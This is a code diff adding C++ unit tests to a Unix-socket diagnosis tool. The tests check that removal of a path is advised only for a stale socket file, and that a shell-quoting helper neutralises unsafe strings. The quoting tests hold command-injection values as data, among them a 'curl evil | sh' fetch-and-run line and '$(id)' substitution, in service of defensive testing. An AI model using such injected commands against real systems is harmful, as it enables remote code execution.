@@ -1,6 +1,7 @@
 // AF_UNIX diagnosis: the unix sock_diag request and a dump recorded from a real
 // kernel, hostile input, path facts on live sockets, and every unix rule on plain data.
 #include "causes.hpp"
+#include "causes_common.hpp"
 #include "causes_unix.hpp"
 #include "fixtures.hpp"
 #include "unix_sockets.hpp"
@@ -452,11 +453,13 @@ TEST_CASE("unix rule: a path that is not a socket, vanished or unreadable is unk
     o.unix_path.file_type = S_IFREG;
     Verdict v = diagnose(unix_request("/run/app.sock"), o);
     CHECK(v.cause == "unknown");
-    CHECK(v.summary == "/run/app.sock exists and is a regular file, not a socket");
+    CHECK(v.summary == "/run/app.sock exists and is a regular file, not a socket: it is no "
+                       "stale socket file");
     CHECK(any_contains(v.why, "never replaces an existing file"));
 
     o.unix_path.file_type = S_IFLNK;
     CHECK(contains(diagnose(unix_request("/run/app.sock"), o).summary, "a symbolic link"));
+    CHECK(any_contains(diagnose(unix_request("/run/app.sock"), o).why, "dangling"));
 
     o.unix_path.lstat_error = ENOENT;
     v = diagnose(unix_request("/run/app.sock"), o);
@@ -472,4 +475,45 @@ TEST_CASE("unix rule: a path that is not a socket, vanished or unreadable is unk
     v = diagnose(unix_request("/run/app.sock"), o);
     CHECK(v.cause == "unknown");
     CHECK(contains(v.summary, "failed with EACCES"));
+}
+
+TEST_CASE("unix rule: removing a path is advised only for a socket file nobody listens on", "[unix]") {
+    // Whatever is not a socket file belongs to someone: /etc/shadow, a directory, a link.
+    for (const std::uint32_t type : {S_IFREG, S_IFDIR, S_IFLNK, S_IFIFO, S_IFCHR}) {
+        Observation o = socket_file_observation();
+        o.unix_path.file_type = type;
+        const Verdict v = diagnose(unix_request("/etc/shadow"), o);
+        INFO("file type " << type << ": " << v.summary << " / " << v.fix);
+        CHECK(v.cause == "unknown");
+        CHECK(contains(v.summary, "not a socket"));
+        CHECK(contains(v.summary, "no stale socket file"));
+        CHECK_FALSE(contains(v.fix, "rm "));
+        CHECK(contains(v.fix, "do not remove it"));
+        CHECK(contains(v.fix, "configure another socket path"));
+    }
+    // A socket file whose listener is unknown (the test connect failed or was not run).
+    for (const UnixConnect c : {UnixConnect::not_run, UnixConnect::failed}) {
+        Observation o = socket_file_observation();
+        o.unix_path.connect = c;
+        o.unix_path.connect_error = c == UnixConnect::failed ? EACCES : 0;
+        const Verdict v = diagnose(unix_request("/run/my app.sock"), o);
+        CHECK(v.cause == "unknown");
+        CHECK_FALSE(contains(v.fix, "rm "));
+        CHECK(contains(v.fix, "do not remove it yet"));
+        CHECK(contains(v.fix, "grep -F -- '/run/my app.sock'"));
+    }
+    // Only the refused connect proves the socket file stale.
+    Observation o = socket_file_observation();
+    o.unix_path.connect = UnixConnect::refused;
+    o.unix_path.connect_error = ECONNREFUSED;
+    CHECK(contains(diagnose(unix_request("/run/my app.sock"), o).fix, "rm '/run/my app.sock'"));
+}
+
+TEST_CASE("shell_quote keeps plain words and single-quotes everything else", "[unix]") {
+    CHECK(detail::shell_quote("/run/app.sock") == "/run/app.sock");
+    CHECK(detail::shell_quote("") == "''");
+    CHECK(detail::shell_quote("/run/my app.sock") == "'/run/my app.sock'");
+    CHECK(detail::shell_quote("a; curl evil | sh") == "'a; curl evil | sh'");
+    CHECK(detail::shell_quote("it's") == "'it'\\''s'");
+    CHECK(detail::shell_quote("$(id)`id`") == "'$(id)`id`'");
 }
